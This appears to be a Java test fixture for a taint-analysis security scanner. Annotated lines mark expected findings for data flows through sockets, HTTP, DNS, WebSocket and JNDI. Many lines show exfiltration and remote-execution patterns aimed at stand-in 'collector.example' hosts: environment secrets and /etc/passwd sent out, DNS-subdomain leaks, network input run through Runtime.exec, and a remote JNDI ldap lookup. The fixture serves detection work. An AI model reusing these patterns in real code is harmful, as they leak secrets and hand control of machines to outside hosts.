// java.net, javax.net, java.net.http, javax.naming: URLs and connections, sockets, TLS, name look-ups.
package app;

import java.io.*;
import java.net.*;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.net.http.WebSocket;
import java.nio.ByteBuffer;
import java.nio.file.Path;
import javax.naming.directory.DirContext;
import javax.naming.InitialContext;
import javax.net.SocketFactory;
import javax.net.ssl.*;
import org.springframework.web.client.RestTemplate;

class Net {
    static final String U = "https://collector.example/u";
    static final RestTemplate rest = new RestTemplate();

    void url() {
        new URL("https://collector.example/?t=" + System.getenv("T")).openStream(); //~ source(ENVIRONMENT) f1, sink(egress.http) f1, finding(traced) f1
        new URL("https://url.collector.example/").openStream(); //~ ok
    }

    void urlStream() {
        InputStream in = new URL("https://stream.collector.example/").openStream(); //~ source(NETWORK) f2, capability(NETWORK), endpoint("https://stream.collector.example/")
        Runtime.getRuntime().exec(new BufferedReader(new InputStreamReader(in)).readLine()); //~ sink(exec.command) f2, finding(traced) f2
    }

    void urlContent() {
        Runtime.getRuntime().exec((String) new URL(U).getContent()); //~ source(NETWORK) f3, sink(exec.command) f3, finding(traced) f3
        new URL(U).getContent(); //~ ok
    }

    void uri() {
        rest.postForObject(U, URI.create(System.getenv("T")).getQuery().trim(), String.class); //~ source(ENVIRONMENT) f4, sink(egress.http) f4, finding(traced) f4
        rest.postForObject(U, URI.create("https://a.example/").getQuery().trim(), String.class); //~ ok
        rest.postForObject(U, URI.create(System.getenv("T")).getHost().trim(), String.class); //~ ok
    }

    void uriResolved() {
        rest.postForObject(U, URI.create(U).resolve(System.getenv("T")).toString(), String.class); //~ source(ENVIRONMENT) f5, sink(egress.http) f5, finding(traced) f5
        rest.postForObject(U, URI.create(U).resolve("/x").toString(), String.class); //~ ok
    }

    void uriToUrl() {
        URI.create(System.getenv("T")).toURL().openStream(); //~ source(ENVIRONMENT) f6, sink(egress.http) f6, finding(traced) f6
        URI.create(U).toURL().openStream(); //~ ok
    }

    void encoded() {
        rest.postForObject(U, URLEncoder.encode(System.getenv("T"), "UTF-8").trim(), String.class); //~ source(ENVIRONMENT) f7, sink(egress.http) f7, finding(traced) f7
        rest.postForObject(U, URLEncoder.encode("x", "UTF-8").trim(), String.class); //~ ok
    }

    void connection() {
        new URL(U + System.getenv("T")).openConnection().connect(); //~ source(ENVIRONMENT) f8, sink(egress.http) f8, finding(traced) f8
    }

    void connectionBody() {
        HttpURLConnection c = (HttpURLConnection) new URL("https://huc.collector.example/u").openConnection(); //~ capability(NETWORK), endpoint("https://huc.collector.example/u")
        c.setRequestMethod("POST");
        OutputStream out = c.getOutputStream(); //~ sink(egress.http) f9, finding(traced) f9
        out.write(System.getenv("T").getBytes()); //~ source(ENVIRONMENT) f9
    }

    void connectionBodyWrapped(HttpsURLConnection c) {
        DataOutputStream out = new DataOutputStream(c.getOutputStream()); //~ sink(egress.http) f10, finding(traced) f10, capability(NETWORK)
        out.writeBytes(System.getenv("T")); //~ source(ENVIRONMENT) f10
    }

    void connectionHeader(URLConnection c) {
        c.setRequestProperty("X-Token", System.getenv("T")); //~ source(ENVIRONMENT) f11, sink(egress.http) f11, finding(traced) f11
    }

    void connectionAnswer(URLConnection c) {
        Runtime.getRuntime().exec(new BufferedReader(new InputStreamReader(c.getInputStream())).readLine()); //~ source(NETWORK) f12, sink(exec.command) f12, finding(traced) f12
    }

    void connectionAnswerHeader(URLConnection c) {
        Runtime.getRuntime().exec(c.getHeaderField("X-Run")); //~ source(NETWORK) f13, sink(exec.command) f13, finding(traced) f13
    }

    void connectionMade(URLConnection c) {
        c.connect(); //~ capability(NETWORK)
    }

    void connectionConstants(URL url) {
        URLConnection c = url.openConnection(); //~ ok
        c.setRequestProperty("X-Version", "1"); //~ ok
        c.getOutputStream().write(1); //~ ok
        c.connect(); //~ ok
        rest.postForObject(U, c.getInputStream().available(), String.class); //~ ok
        rest.postForObject(U, c.getHeaderField("X-Run") == null, String.class); //~ ok
        rest.postForObject(U, ((HttpURLConnection) c).getContentLength(), String.class); //~ ok
    }

    void connectionSettings(HttpURLConnection c) {
        c.setRequestMethod(System.getenv("T")); //~ ok
        rest.postForObject(U, c, String.class); //~ ok
    }

    void socket() {
        Socket socket = new Socket("sock.collector.example", 80); //~ capability(NETWORK), endpoint("sock.collector.example")
        socket.getOutputStream().write(System.getenv("T").getBytes()); //~ source(ENVIRONMENT) f14, sink(egress.socket) f14, finding(traced) f14
        socket.close();
    }

    void socketWrapped(Socket socket) {
        PrintWriter out = new PrintWriter(new OutputStreamWriter(socket.getOutputStream())); //~ sink(egress.socket) f15, finding(traced) f15
        out.println(System.getenv("T")); //~ source(ENVIRONMENT) f15
    }

    void socketRead(Socket socket) {
        Runtime.getRuntime().exec(new DataInputStream(socket.getInputStream()).readUTF()); //~ source(NETWORK) f16, sink(exec.command) f16, finding(traced) f16, capability(NETWORK)
    }

    void socketConnected(Socket socket) {
        socket.connect(new InetSocketAddress("sock2.collector.example", 80)); //~ capability(NETWORK), endpoint("sock2.collector.example")
    }

    void socketChannel(Socket socket) {
        socket.getChannel().write(ByteBuffer.wrap(System.getenv("T").getBytes())); //~ source(ENVIRONMENT) f17, sink(egress.socket) f17, finding(traced) f17
    }

    void socketUrgent(Socket socket) {
        socket.sendUrgentData(System.getenv("T").charAt(0)); //~ source(ENVIRONMENT) f18, sink(egress.socket) f18, finding(traced) f18
    }

    void socketAddress(Socket socket) {
        rest.postForObject(U, socket.getLocalAddress().getHostAddress(), String.class); //~ source(DEVICE) f19, sink(egress.http) f19, finding(traced) f19
    }

    void socketConstants() {
        Socket socket = new Socket("sock.collector.example", 80); //~ ok
        socket.connect(new InetSocketAddress("sock2.collector.example", 80)); //~ ok
        socket.getOutputStream().write(1); //~ ok
        socket.getChannel().write(ByteBuffer.wrap(new byte[1])); //~ ok
        socket.sendUrgentData(1); //~ ok
        rest.postForObject(U, socket.getInputStream().available(), String.class); //~ ok
        rest.postForObject(U, socket.getLocalAddress() == null, String.class); //~ ok
        rest.postForObject(U, socket.isConnected(), String.class); //~ ok
    }

    void socketClosed(Socket socket) {
        socket.setSoTimeout(Integer.parseInt(System.getenv("T"))); //~ ok
        rest.postForObject(U, socket, String.class); //~ ok
    }

    void secured() {
        SocketFactory factory = SSLSocketFactory.getDefault();
        factory.createSocket("tls.collector.example", 443).getOutputStream().write(System.getenv("T").getBytes()); //~ source(ENVIRONMENT) f20, sink(egress.socket) f20, finding(traced) f20, capability(NETWORK), endpoint("tls.collector.example")
        factory.createSocket("tls.collector.example", 443).getOutputStream().write(1); //~ ok
    }

    void securedByDefault() {
        SSLSocketFactory.getDefault().createSocket("tls2.collector.example", 443); //~ endpoint("tls2.collector.example")
        SSLSocketFactory.getDefault().createSocket("tls2.collector.example", 443); //~ ok
    }

    void securedByContext(SSLContext context) {
        context.getSocketFactory().createSocket("tls3.collector.example", 443); //~ endpoint("tls3.collector.example")
        context.getSocketFactory().createSocket("tls3.collector.example", 443); //~ ok
    }

    void served() {
        ServerSocket server = new ServerSocket(80); //~ capability(NETWORK)
        new ServerSocket(81); //~ ok
    }

    void accepted(ServerSocket server) {
        Runtime.getRuntime().exec(new DataInputStream(server.accept().getInputStream()).readUTF()); //~ source(NETWORK) f21, sink(exec.command) f21, finding(traced) f21
        server.accept().close(); //~ ok
    }

    void datagram(DatagramSocket socket) {
        byte[] data = System.getenv("T").getBytes(); //~ source(ENVIRONMENT) f22
        socket.send(new DatagramPacket(data, 10, InetAddress.getByName("udp.collector.example"), 53)); //~ sink(egress.socket) f22, finding(traced) f22, capability(NETWORK), endpoint("udp.collector.example")
    }

    void datagramLater(DatagramSocket socket, DatagramPacket packet) {
        packet.setData(System.getenv("T").getBytes()); //~ source(ENVIRONMENT) f23
        socket.send(packet); //~ sink(egress.socket) f23, finding(traced) f23
    }

    void datagramReceived(DatagramSocket socket) {
        byte[] buffer = new byte[512];
        DatagramPacket packet = new DatagramPacket(buffer, 512);
        socket.receive(packet); //~ source(NETWORK) f24
        Runtime.getRuntime().exec(new String(buffer)); //~ sink(exec.command) f24, finding(traced) f24
    }

    void datagramData(DatagramSocket socket, DatagramPacket packet) {
        socket.receive(packet); //~ source(NETWORK) f25
        Runtime.getRuntime().exec(new String(packet.getData())); //~ sink(exec.command) f25, finding(traced) f25
    }

    void datagramConstants(DatagramSocket socket, DatagramPacket packet) {
        socket.send(new DatagramPacket(new byte[1], 1)); //~ ok
        packet.setData(new byte[1]); //~ ok
        socket.send(packet); //~ ok
        rest.postForObject(U, packet.getData(), String.class); //~ ok
        socket.receive(new DatagramPacket(new byte[1], 1)); //~ ok
    }

    void lookup() {
        InetAddress.getByName(System.getenv("T") + ".collector.example"); //~ source(ENVIRONMENT) f26, sink(egress.dns) f26, finding(traced) f26, capability(DNS)
        InetAddress.getByName("collector.example"); //~ ok
    }

    void host() {
        rest.postForObject(U, InetAddress.getLocalHost().getHostName(), String.class); //~ source(DEVICE) f27, sink(egress.http) f27, finding(traced) f27, capability(DEVICE)
        rest.postForObject(U, InetAddress.getLocalHost() == null, String.class); //~ ok
        rest.postForObject(U, InetAddress.getLocalHost().getHostName() == null, String.class); //~ ok
    }

    void interfaces() {
        rest.postForObject(U, NetworkInterface.getNetworkInterfaces(), String.class); //~ source(DEVICE) f28, sink(egress.http) f28, finding(traced) f28, capability(DEVICE)
        rest.postForObject(U, NetworkInterface.getNetworkInterfaces() == null, String.class); //~ ok
    }

    void interfaceAddress(NetworkInterface one) {
        rest.postForObject(U, one.getHardwareAddress(), String.class); //~ source(DEVICE) f29, sink(egress.http) f29, finding(traced) f29, capability(DEVICE)
        rest.postForObject(U, one.getHardwareAddress() == null, String.class); //~ ok
    }

    void named() {
        new InitialContext().lookup("ldap://" + rest.getForObject(U, String.class)); //~ source(NETWORK) f30, sink(exec.load) f30, finding(traced) f30, capability(DYNAMIC_CODE)
        new InitialContext().lookup("java:comp/env"); //~ ok
    }

    void directory(DirContext context) {
        context.getAttributes(System.getenv("T") + ".collector.example"); //~ source(ENVIRONMENT) f31, sink(egress.dns) f31, finding(traced) f31, capability(DNS)
        context.getAttributes("collector.example"); //~ ok
    }

    void http() {
        HttpRequest request = HttpRequest.newBuilder(URI.create("https://http.collector.example/u"))
            .POST(HttpRequest.BodyPublishers.ofString(System.getenv("T"))) //~ source(ENVIRONMENT) f32
            .build();
        HttpClient.newHttpClient().send(request, HttpResponse.BodyHandlers.ofString()); //~ sink(egress.http) f32, finding(traced) f32, capability(NETWORK), endpoint("https://http.collector.example/u")
    }

    void httpUrl(HttpClient client) {
        HttpRequest request = HttpRequest.newBuilder().uri(URI.create(U + System.getenv("T"))).GET().build(); //~ source(ENVIRONMENT) f33
        client.send(request, HttpResponse.BodyHandlers.ofString()); //~ sink(egress.http) f33, finding(traced) f33
    }

    void httpFile(HttpClient client) {
        HttpRequest request = HttpRequest.newBuilder(URI.create(U)).POST(HttpRequest.BodyPublishers.ofFile(Path.of("/etc/passwd"))).build(); //~ source(FILE) f34, capability(FILES)
        client.send(request, HttpResponse.BodyHandlers.ofString()); //~ sink(egress.http) f34, finding(traced) f34
    }

    void httpAnswer(HttpRequest request) {
        Runtime.getRuntime().exec(HttpClient.newBuilder().connectTimeout(null).build().send(request, HttpResponse.BodyHandlers.ofString()).body()); //~ source(NETWORK) f35, sink(exec.command) f35, finding(traced) f35
    }

    void httpLater(HttpClient client, HttpRequest.Builder builder) {
        HttpRequest request = builder.header("X-Token", System.getenv("T")).build(); //~ source(ENVIRONMENT) f36
        client.sendAsync(request, HttpResponse.BodyHandlers.ofString()); //~ sink(egress.http) f36, finding(traced) f36, capability(NETWORK)
    }

    void httpConstants() {
        HttpClient client = HttpClient.newHttpClient(); //~ ok
        HttpClient other = HttpClient.newBuilder().connectTimeout(null).build(); //~ ok
        HttpRequest request = HttpRequest.newBuilder(URI.create(U)).POST(HttpRequest.BodyPublishers.ofString("x")).build(); //~ ok
        client.send(request, HttpResponse.BodyHandlers.ofString()); //~ ok
        other.sendAsync(HttpRequest.newBuilder().uri(URI.create(U)).GET().build(), HttpResponse.BodyHandlers.ofString()); //~ ok
        rest.postForObject(U, client.send(request, HttpResponse.BodyHandlers.ofString()).body() == null, String.class); //~ ok
        Runtime.getRuntime().exec("x" + client.send(request, HttpResponse.BodyHandlers.ofString()).statusCode()); //~ ok
        rest.postForObject(U, HttpRequest.BodyPublishers.ofFile(Path.of("/etc/passwd")) == null, String.class); //~ ok
    }

    void webSocket(HttpClient client) {
        client.newWebSocketBuilder().buildAsync(URI.create("wss://ws.collector.example/"), new WebSocket.Listener() { //~ source(NETWORK) f37, capability(NETWORK), endpoint("wss://ws.collector.example/")
            public Object onText(WebSocket socket, CharSequence data, boolean last) {
                Runtime.getRuntime().exec(data.toString()); //~ sink(exec.command) f37, finding(traced) f37
                return null;
            }
        });
        client.newWebSocketBuilder().buildAsync(URI.create("wss://ws.collector.example/"), null); //~ ok
    }

    void webSocketSend(WebSocket socket) {
        socket.sendText(System.getenv("T"), true); //~ source(ENVIRONMENT) f38, sink(egress.message) f38, finding(traced) f38, capability(NETWORK)
        socket.sendText("x", true); //~ ok
    }
}

class Line {
    private final DataOutputStream out;
    private final DataOutputStream quiet;

    Line(Socket one, Socket other) {
        out = new DataOutputStream(one.getOutputStream()); //~ sink(egress.socket) f39, finding(traced) f39
        quiet = new DataOutputStream(other.getOutputStream()); //~ ok
    }

    void tell() {
        out.writeUTF(System.getenv("T")); //~ source(ENVIRONMENT) f39
        quiet.writeUTF("x"); //~ ok
    }
}
